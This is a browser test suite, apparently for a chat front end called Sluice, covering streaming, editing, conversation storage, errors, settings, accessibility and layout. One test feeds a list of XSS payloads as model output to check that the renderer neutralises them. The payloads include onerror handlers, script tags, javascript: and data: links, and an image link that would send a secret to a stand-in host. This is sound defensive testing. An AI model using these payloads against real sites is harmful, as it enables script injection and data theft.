import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { after, before, test } from "node:test";
import { PHONE, opened, startBrowser, startScript, startServer } from "./browser.mjs";

let server;
let script;
let browser;

before(async () => {
  [server, script, browser] = await Promise.all([startServer(), startScript(), startBrowser()]);
});
after(async () => {
  await browser?.close();
  script?.stop();
  server?.stop();
});

const open = (options) => opened(browser, server, options);
const one = (page, name) => page.getByRole("button", { name, exact: true });

// Texts that an element has had, in order.
const watched = (page, selector) =>
  page.evaluate((selector) => {
    window.seen = [];
    new MutationObserver(() => {
      const text = document.querySelector(selector)?.textContent ?? "";
      if (text && text !== window.seen.at(-1)) window.seen.push(text);
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  }, selector);

test("the model's answer is shown as it is written, and then what it took", async () => {
  const page = await open();
  await page.getByText("4,096 tokens of context").waitFor();
  await page.send("Tell me a story about a fox.");
  const answer = await page.done();
  assert.match(await answer.locator(".markdown").innerText(), /\w+ \w+ \w+/);
  assert.match(await answer.locator("footer").innerText(), /\d+ tokens? · .*first token after .* · \d+ prompt tokens, \d+ cached/);
  assert.equal(await page.title(), "Tell me a story about a fox. – Sluice");
  await page.check();
});

test("text appears before the answer is complete", async () => {
  const page = await open();
  await page.follow(script);
  await watched(page, "article.answer .markdown");
  await page.send("Count.");
  const asked = await script.next();
  await page.locator(".waiting").waitFor();
  for (const word of ["one", "two", "three"]) {
    asked.write(`${word} `);
    await page.getByText(word).last().waitFor();
  }
  assert.equal(await page.locator(".log").getAttribute("aria-busy"), "true");
  asked.end();
  const answer = await page.done();
  assert.match(await answer.locator("footer").innerText(), /20 tokens · .*1,000 prompt tokens, 900 cached/);
  const seen = await page.evaluate(() => window.seen);
  assert.deepEqual(seen.map((text) => text.trim()), ["one", "one two", "one two three"]);
  assert.equal(await page.locator(".log").getAttribute("aria-busy"), "false");
  await page.check();
});

test("what one has read of a long answer is not drawn anew", async () => {
  const page = await open();
  await page.follow(script);
  await page.send("Write.");
  const asked = await script.next();
  asked.write("# First\n\nA paragraph.\n\n");
  await page.getByText("A paragraph.").waitFor();
  await page.evaluate(() => (document.querySelector(".markdown h3").isSame = true));
  asked.write("Another.\n\n```js\nlet a = 1;\n```\n");
  await page.getByText("let a = 1;").waitFor();
  asked.end();
  await page.done();
  assert.equal(await page.evaluate(() => document.querySelector(".markdown h3").isSame), true);
  await page.check();
});

test("stopping ends the request and keeps what was written", async () => {
  const page = await open();
  await page.follow(script);
  await page.send("Go on for ever.");
  const asked = await script.next();
  asked.write("And so on");
  await page.getByText("And so on").waitFor();
  await one(page, "Stop").click();
  await asked.closed;
  const answer = await page.done();
  assert.equal(await answer.locator(".markdown").innerText(), "And so on");
  assert.match(await answer.locator("footer").innerText(), /stopped by you/);
  // The next message goes on from there.
  await page.send("More.");
  const next = await script.next();
  assert.deepEqual(next.body.messages, [
    { role: "user", content: "Go on for ever." },
    { role: "assistant", content: "And so on" },
    { role: "user", content: "More." },
  ]);
  next.end();
  await page.done(2);
  await page.check();
});

test("an edited message is answered anew, and the old one stays beside it", async () => {
  const page = await open();
  await page.follow(script);
  await page.send("Old question");
  const first = await script.next();
  first.write("Old answer");
  first.end();
  await page.done();
  await one(page, "Edit").click();
  await page.getByLabel("Edit your message").fill("New question");
  await page.locator(".editor").getByRole("button", { name: "Send" }).click();
  const second = await script.next();
  assert.deepEqual(second.body.messages, [{ role: "user", content: "New question" }]);
  second.write("New answer");
  second.end();
  await page.done();
  assert.deepEqual(await page.mine.allInnerTexts(), ["New question"]);
  await page.getByText("2 of 2").waitFor();
  await one(page, "Version before").click();
  await page.getByText("Old answer").waitFor();
  assert.deepEqual(await page.mine.allInnerTexts(), ["Old question"]);
  await page.check();
});

test("a regenerated answer stands beside the first", async () => {
  const page = await open();
  await page.send("Tell me a story.");
  await page.done();
  const asked = page.waitForRequest("**/v1/chat/completions");
  await one(page, "Regenerate").click();
  assert.deepEqual((await asked).postDataJSON().messages, [{ role: "user", content: "Tell me a story." }]);
  await page.getByText("2 of 2").waitFor();
  await page.done();
  await one(page, "Version before").click();
  await page.getByText("1 of 2").waitFor();
  assert.equal(await page.answers.count(), 1);
  await page.check();
});

test("conversations are kept, named, deleted and brought back", async () => {
  const page = await open();
  await page.follow(script);
  for (const text of ["First question", "Second question"]) {
    await page.begin();
    await page.send(text);
    const asked = await script.next();
    asked.write(`About the ${text.toLowerCase()}`);
    asked.end();
    await page.done();
  }
  await page.reload();
  await page.getByText("About the second question").waitFor();
  assert.deepEqual(await page.list.allInnerTexts(), ["Second question", "First question"]);
  await page.list.filter({ hasText: "First" }).getByRole("button").click();
  await page.getByText("About the first question").waitFor();
  await one(page, "Rename").click();
  await page.getByLabel("Name of this conversation").fill("Beginnings");
  await page.keyboard.press("Enter");
  await page.list.filter({ hasText: "Beginnings" }).waitFor();
  await one(page, "Delete").click();
  await page.getByText("“Beginnings” was deleted.").waitFor();
  assert.deepEqual(await page.list.allInnerTexts(), ["Second question"]);
  await one(page, "Undo").click();
  await page.getByText("About the first question").waitFor();
  await one(page, "Delete").click();
  await page.list.filter({ hasText: "Beginnings" }).waitFor({ state: "detached" });
  await page.reload();
  await page.list.first().waitFor();
  assert.deepEqual(await page.list.allInnerTexts(), ["Second question"]);
  await page.check();
});

test("an answer that was being written when the page was closed says so", async () => {
  const page = await open();
  await page.follow(script);
  await page.send("Begin.");
  const asked = await script.next();
  asked.write("Half");
  await page.getByText("Half").waitFor();
  await page.reload();
  await asked.closed;
  await page.getByText("This answer was cut off when the page was closed.").waitFor();
  await one(page, "Regenerate").click();
  const again = await script.next();
  again.write("Whole");
  again.end();
  await page.getByText("Whole").waitFor();
  await page.check();
});

test("another window of the page sees what was said in this one", async () => {
  const page = await open();
  await page.follow(script);
  const other = await page.context().newPage();
  await other.goto(server.address);
  await page.send("Said here");
  const asked = await script.next();
  asked.write("Seen there");
  asked.end();
  await page.done();
  await other.getByRole("listitem").getByText("Said here").click();
  await other.getByText("Seen there").waitFor();
  await page.check();
});

test("conversations are exported and imported whole, and what is not one is refused", async () => {
  const page = await open();
  await page.follow(script);
  await page.send("A question");
  const asked = await script.next();
  asked.delta({ reasoning_content: "a thought" });
  asked.write("An answer");
  asked.end();
  await page.done();
  const [download] = await Promise.all([page.waitForEvent("download"), one(page, "Export all").click()]);
  const text = await readFile(await download.path(), "utf8");
  const other = await open();
  const give = async (name, content) => {
    const [chooser] = await Promise.all([other.waitForEvent("filechooser"), one(other, "Import").click()]);
    await chooser.setFiles({ name, mimeType: "application/json", buffer: Buffer.from(content) });
  };
  await give("saved.json", text);
  await other.getByText("One conversation was imported.").waitFor();
  assert.deepEqual(await other.mine.allInnerTexts(), ["A question"]);
  assert.match(await other.answers.innerText(), /Thought for .*An answer/s);
  await give("holiday.json", "{}");
  await other.getByText("holiday.json: this file holds no conversations of Sluice.").waitFor();
  const file = JSON.parse(text);
  Object.values(file.conversations[0].messages)[0].parent = "nowhere";
  await give("torn.json", JSON.stringify(file));
  await other.getByText("torn.json: conversation 1: a message is not what it should be.").waitFor();
  assert.equal(await other.list.count(), 1);
  await page.check();
  await other.check();
});

test("thoughts are folded away, however they are sent, and go back to the server as they came", async () => {
  const page = await open();
  await page.follow(script);
  await page.send("Apart");
  const apart = await script.next();
  apart.delta({ reasoning_content: "Let me see" });
  await page.getByText(/^Thinking · /).waitFor();
  apart.write("It is 4.");
  apart.end();
  const first = await page.done();
  assert.equal(await first.locator("details").getAttribute("open"), null);
  assert.equal(await first.locator("> .markdown").innerText(), "It is 4.");
  await first.locator("summary").click();
  await first.getByText("Let me see").waitFor();

  await page.send("Within");
  const within = await script.next();
  assert.deepEqual(within.body.messages[1], { role: "assistant", content: "It is 4.", reasoning_content: "Let me see" });
  for (const piece of ["<th", "ink>Hm", "m</thi", "nk>\n\nIt is 5."]) within.write(piece);
  within.end();
  const second = await page.done(2);
  assert.equal(await second.locator("> .markdown").innerText(), "It is 5.");
  assert.match(await second.locator("summary").innerText(), /Thought for/);

  await page.send("Next");
  const next = await script.next();
  assert.equal(next.body.messages[3].content, "<think>Hmm</think>\n\nIt is 5.");
  next.end();
  await page.check();
});

test("nothing that a model writes runs, is fetched or leaves the page", async () => {
  const page = await open();
  await page.follow(script);
  page.on("dialog", (dialog) => page.wrong.push(`dialog: ${dialog.message()}`));
  await page.send("Attack.");
  const asked = await script.next();
  const attacks = [
    "<img src=x onerror=\"window.hacked=1\">",
    "<script>window.hacked=1</script>",
    "<svg onload=window.hacked=1><a xlink:href='javascript:window.hacked=1'>x</a></svg>",
    "[click](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)",
    "![stolen](http://elsewhere.invalid/?secret)",
    "[ref]: http://elsewhere.invalid/\n\n[a link][ref]",
    "<iframe src='//elsewhere.invalid'></iframe><style>body{display:none}</style>",
    "<a href=# style=position:fixed;inset:0 onclick=window.hacked=1>all</a>",
    "```\"><img src=x onerror=window.hacked=1>\n</code></pre><img src=x onerror=window.hacked=1>\n```",
    "`<img src=x onerror=window.hacked=1>` &lt;img src=x onerror=window.hacked=1&gt;",
    "| <img src=x onerror=window.hacked=1> |\n|---|\n| [x](vbscript:1) |",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hacked=1&gt;\">",
    "[x](http://a.invalid/\"onmouseover=window.hacked=1)",
  ];
  // As it is streamed, every piece of it is shown for a while.
  for (const attack of attacks) {
    asked.write(`${attack}\n\n`);
  }
  asked.write("The end.");
  asked.end();
  const answer = await page.done();
  await answer.getByText("The end.").waitFor();
  for (const link of await answer.locator("a").all()) await link.hover();
  const found = await answer.evaluate((element) => ({
    hacked: window.hacked,
    elements: element.querySelectorAll("img, script, iframe, style, svg, math, object, embed, form, input").length,
    handlers: [...element.querySelectorAll("*")].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith("on") || n === "style"),
    links: [...element.querySelectorAll("a")].map((a) => [a.protocol, a.rel, a.target].join(" ")),
  }));
  assert.equal(found.hacked, undefined);
  assert.equal(found.elements, 0);
  assert.deepEqual(found.handlers, []);
  assert.ok(found.links.length >= 3, `${found.links}`);
  // Links to anything but pages lead nowhere.
  for (const link of found.links) assert.match(link, /^(http:|:) noopener noreferrer _blank$/);
  // HTML is shown as it was written.
  await answer.getByText("<script>window.hacked=1</script>").first().waitFor();
  // What is too deep for the parser is shown as it is.
  await page.send("Deeper.");
  const deep = await script.next();
  deep.write(`${">".repeat(20_000)} deep <img src=x onerror=window.hacked=1>`);
  deep.end();
  await (await page.done(2)).getByText("deep <img src=x").waitFor();
  await page.check();
});

test("code can be copied", async () => {
  const page = await open({ permissions: ["clipboard-read", "clipboard-write"] });
  await page.follow(script);
  await page.send("Code.");
  const asked = await script.next();
  asked.write("```python\nprint('<hello>')\n```");
  asked.end();
  await page.done();
  assert.equal(await page.locator(".code figcaption span").innerText(), "python");
  await one(page, "Copy this code").click();
  await page.locator(".code").getByText("Copied").waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "print('<hello>')");
  await page.check();
});

test("what goes wrong is said in words, with a way on", async () => {
  const page = await open();
  const refused = async (status, headers, error) => {
    await page.route("**/v1/chat/completions", (route) => route.fulfill({ status, headers, json: { error } }), { times: 1 });
    await page.begin();
    await page.send("Hello");
  };
  const alert = (words) => page.getByRole("alert").getByText(words).waitFor();
  await refused(429, { "retry-after": "2" }, { message: "256 requests are waiting already; try again later" });
  await alert(/queue is full: 256 requests are waiting already/);
  await page.getByRole("button", { name: /Try again in \d s/ }).waitFor();
  await one(page, "Try again").click();
  await page.done();

  await page.begin();
  await page.send("many words ".repeat(3000));
  await alert(/too long: it has [\d,]+ tokens, and the model's context holds 4,096/);
  await refused(503, { "retry-after": "1" }, { message: "Loading model" });
  await alert(/still being loaded/);
  await refused(400, {}, { message: "top_p is 3; it must be at most 1" });
  await alert(/refused this: top_p is 3/);

  await page.follow(script);
  await page.begin();
  await page.send("Hello");
  const asked = await script.next();
  asked.write("Half an");
  await page.getByText("Half an").waitFor();
  asked.lose();
  await alert(/connection was lost/);
  await one(page, "Send again").click();
  const again = await script.next();
  assert.deepEqual(again.body.messages, [{ role: "user", content: "Hello" }]);
  again.event({ error: { message: "the disk is gone", type: "server_error" } });
  await alert("Something went wrong in the server: the disk is gone");
  await page.check();
});

test("a server that wants a key gets the one that was typed, and the key stays in the tab", async () => {
  const page = await open();
  const keys = [];
  const guard = async (route) => {
    const key = await route.request().headerValue("authorization");
    keys.push(key);
    if (key === "Bearer secret") return route.fallback();
    return route.fulfill({ status: 401, json: { error: { message: "no" } } });
  };
  await page.route("**/v1/**", guard);
  await page.reload();
  await page.getByText("This server wants an API key").waitFor();
  await page.locator(".empty").getByRole("button", { name: "Settings" }).click();
  await page.getByLabel("API key").fill("secret");
  await page.keyboard.press("Escape");
  await page.locator(".empty").getByText("demo").waitFor();
  await page.send("Hello");
  await page.done();
  assert.equal(keys.at(-1), "Bearer secret");
  const kept = await page.evaluate(() => [sessionStorage.getItem("sluice-key"), JSON.stringify(localStorage), location.href]);
  assert.equal(kept[0], "secret");
  assert.ok(!kept[1].includes("secret") && !kept[2].includes("secret"));
  await page.check();
});

test("settings are sent, and what is left empty is not", async () => {
  const page = await open();
  await page.follow(script);
  await one(page, "Settings").click();
  await page.getByLabel("System prompt").fill("Be brief.");
  await page.getByLabel("Temperature").fill("0.3");
  await page.getByLabel("Seed").fill("7");
  await page.getByLabel("Tokens at most").fill("50");
  await page.getByLabel("Thinking").selectOption("Off");
  await one(page.getByRole("dialog"), "Close").click();
  await page.send("Hello");
  const { model, messages, ...rest } = (await script.next()).body;
  assert.equal(typeof model, "string");
  assert.deepEqual(messages, [{ role: "system", content: "Be brief." }, { role: "user", content: "Hello" }]);
  assert.deepEqual(rest, {
    ...{ stream: true, stream_options: { include_usage: true }, temperature: 0.3, max_tokens: 50, seed: 7 },
    chat_template_kwargs: { enable_thinking: false },
  });
  await page.check();
});

test("of several models one is chosen, and asked from then on", async () => {
  const page = await open();
  await page.follow(script);
  await page.route("**/v1/models", (route) => route.fulfill({ json: { data: [{ id: "small" }, { id: "large", max_model_len: 262144 }] } }));
  await page.reload();
  await page.locator(".empty").getByText("small").waitFor();
  await one(page, "Settings").click();
  await page.getByLabel("Model, for all").selectOption("large");
  await page.keyboard.press("Escape");
  await page.locator(".empty").getByText("large · 262,144 tokens of context").waitFor();
  await page.reload();
  await page.locator(".empty").getByText("large").waitFor();
  await page.send("Hello");
  assert.equal((await script.next()).body.model, "large");
  await page.check();
});

test("keys alone are enough", async () => {
  const page = await open();
  await page.follow(script);
  const focused = () => page.evaluate(() => {
    const at = document.activeElement;
    return at === document.body ? "the page" : (at.getAttribute("aria-label") ?? (at.labels?.[0]?.textContent.trim() || at.textContent));
  });
  await page.waitForFunction(() => document.activeElement.id === "message");
  await page.keyboard.type("One");
  await page.keyboard.press("Shift+Enter");
  await page.keyboard.type("two");
  await page.keyboard.press("Enter");
  const asked = await script.next();
  assert.equal(asked.body.messages[0].content, "One\ntwo");
  asked.write("Well");
  await page.getByText("Well").waitFor();
  await page.keyboard.press("Escape");
  await asked.closed;
  await page.done();
  // The arrow edits the last message, Escape leaves it as it was.
  await page.keyboard.press("ArrowUp");
  await page.getByLabel("Edit your message").waitFor();
  await page.keyboard.press("Escape");
  await page.getByLabel("Edit your message").waitFor({ state: "detached" });
  assert.equal(await focused(), "Message");
  await page.keyboard.press("ArrowUp");
  await page.getByLabel("Edit your message").fill("Three");
  await page.keyboard.press("Enter");
  const second = await script.next();
  assert.equal(second.body.messages[0].content, "Three");
  second.end();
  await page.done();

  // From the top: the way past the list first, and everything on the way has a name.
  await page.evaluate(() => (document.activeElement.blur(), getSelection().removeAllRanges()));
  await page.reload();
  await page.getByText("Three").first().waitFor();
  await page.evaluate(() => document.activeElement.blur());
  const way = [];
  for (let i = 0; i < 40; i++) {
    await page.keyboard.press("Tab");
    way.push(await focused());
    assert.ok(way.at(-1), `nothing to say at ${way}`);
    const isSeen = await page.evaluate(() => document.activeElement === document.body || getComputedStyle(document.activeElement).outlineStyle !== "none" || document.activeElement.matches("#message, [type=radio]"));
    assert.ok(isSeen, `focus is not seen at ${way.at(-1)}`);
    if (way.at(-1) === "Message") break;
  }
  for (const name of ["New conversation", "Rename", "Settings", "Conversation", "Edit", "Regenerate", "Message"]) assert.ok(way.includes(name), `${name} is not on the way: ${way}`);
  await page.check();
});

test("colours follow the system, and the switch", async () => {
  const page = await open({ colorScheme: "dark" });
  const ground = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  const dark = await ground();
  await page.emulateMedia({ colorScheme: "light" });
  const light = await ground();
  assert.notEqual(dark, light);
  await page.getByText("Dark", { exact: true }).click();
  assert.equal(await ground(), dark);
  await page.reload();
  assert.equal(await ground(), dark);
  await page.getByText("System", { exact: true }).click();
  assert.equal(await ground(), light);
  await page.check();
});

test("text can be read in both modes", async () => {
  for (const colorScheme of ["light", "dark"]) {
    const page = await open({ colorScheme });
    await page.follow(script);
    await page.send("Show me all.");
    const asked = await script.next();
    asked.write("# Head\n\nText with `code` and [a link](http://a.invalid).\n\n> quoted\n\n```c\nint a;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |");
    asked.end();
    await page.done();
    const poor = await page.evaluate(() => {
      const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
      const rgb = (color) => {
        canvas.clearRect(0, 0, 1, 1);
        canvas.fillStyle = color;
        canvas.fillRect(0, 0, 1, 1);
        return [...canvas.getImageData(0, 0, 1, 1).data];
      };
      const light = ([r, g, b]) => {
        const linear = [r, g, b].map((c) => (c / 255 <= 0.03928 ? c / 255 / 12.92 : ((c / 255 + 0.055) / 1.055) ** 2.4));
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2];
      };
      const behind = (element) => {
        for (let at = element; at; at = at.parentElement) {
          const color = rgb(getComputedStyle(at).backgroundColor);
          if (color[3] === 255) return color;
        }
      };
      const own = (e) => [...e.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
      return [...document.body.querySelectorAll("*")]
        .filter((e) => own(e) && e.checkVisibility() && !e.disabled && !e.closest("noscript"))
        .map((e) => {
          const [a, b] = [light(rgb(getComputedStyle(e).color)), light(behind(e))].sort((x, y) => y - x);
          return [e.textContent.trim().slice(0, 30), (a + 0.05) / (b + 0.05)];
        })
        .filter(([, contrast]) => contrast < 4.5);
    });
    assert.deepEqual(poor, []);
    await page.check();
  }
});

test("a phone has room for all of it", async () => {
  const page = await open(PHONE);
  await page.follow(script);
  await page.message.fill("Tell me");
  // Enter is a line where there is no Shift.
  await page.message.press("Enter");
  await page.message.pressSequentially("something long.");
  await one(page, "Send").tap();
  const asked = await script.next();
  assert.equal(asked.body.messages[0].content, "Tell me\nsomething long.");
  const wide = "x".repeat(300);
  asked.write(`A word: ${wide}\n\n\`\`\`\n${wide}\n\`\`\`\n\n| ${"a | ".repeat(20)}\n|${"---|".repeat(20)}\n| ${"1 | ".repeat(20)}\n`);
  asked.end();
  await page.done();
  const width = () => page.evaluate(() => [document.documentElement.scrollWidth, document.querySelector(".log").scrollWidth - document.querySelector(".log").clientWidth]);
  assert.deepEqual(await width(), [390, 0]);
  await one(page, "Menu").tap();
  await one(page, "New conversation").tap();
  await page.getByText("What would you like to know?").waitFor();
  await one(page, "Menu").tap();
  await page.list.first().getByRole("button").tap();
  await page.getByText("A word:").waitFor();
  await one(page, "Tiers").tap();
  await page.getByRole("complementary", { name: "Tiers" }).getByText("Requests").waitFor();
  assert.equal((await width())[0], 390);
  await page.getByRole("complementary").getByRole("button", { name: "Close" }).tap();
  await page.check();
});

test("tiers show what the server says of itself", async () => {
  const page = await open();
  await page.send("Tell me a story.");
  await page.done();
  const tiers = page.getByRole("complementary", { name: "Tiers" });
  await tiers.getByText("From memory").waitFor();
  const figures = await tiers.innerText();
  for (const known of [/\d+\s+running\s+\d+\s+waiting/, /Weights, mapped\s+29\.9 MB/, /Computed\s+[\d,]+/, /of the blocks in use/, /Context\s+4,096 tokens/]) assert.match(figures, known);
  // Nothing is streamed from disk here: no picture of it.
  assert.doesNotMatch(figures, /Experts\s+streamed/);
  await page.route("**/metrics", async (route) => {
    const at = Date.now() / 1000;
    const text = `sluice:experts_wanted_total ${Math.round(200 * at)}\nsluice:experts_hit_total ${Math.round(150 * at)}\nsluice:experts_read_bytes_total ${Math.round(5e8 * at)}\nsluice:prompt_cache_bytes 2500000000\nsluice:prompt_cache_blocks 1200\n# EOF\n`;
    await route.fulfill({ body: text });
  });
  await page.reload();
  await tiers.getByText(/75 % were in memory, just now/).waitFor();
  await tiers.getByText(/\d{3} MB\/s/).first().waitFor();
  await tiers.getByText(/2\.5 GB/).waitFor();
  await page.check();
});

test("a long conversation opens at its end, and goes on", async () => {
  const page = await open();
  const messages = {};
  for (let i = 0; i < 600; i++) {
    const role = i % 2 === 0 ? "user" : "assistant";
    messages[i] = { id: `${i}`, parent: i === 0 ? null : `${i - 1}`, role, content: `Message ${i}\n\nwith **text**`, created: i, ...(i % 2 ? { finish: "stop" } : {}) };
  }
  const file = { format: "sluice-conversations", version: 1, conversations: [{ title: "Long", messages, head: "599" }] };
  const [chooser] = await Promise.all([page.waitForEvent("filechooser"), one(page, "Import").click()]);
  await chooser.setFiles({ name: "long.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(file)) });
  await page.getByText("Message 599").waitFor();
  await page.waitForFunction(() => document.querySelector("article:last-of-type").getBoundingClientRect().bottom <= innerHeight);
  await page.locator(".log").hover();
  await page.mouse.wheel(0, -5000);
  await one(page, "Go to the end").click();
  await page.waitForFunction(() => document.querySelector("article:last-of-type").getBoundingClientRect().bottom <= innerHeight);
  await page.send("Hello");
  await page.getByRole("button", { name: "Stop" }).or(page.getByRole("alert")).or(page.getByText("tokens/s")).first().waitFor();
  await page.check();
});
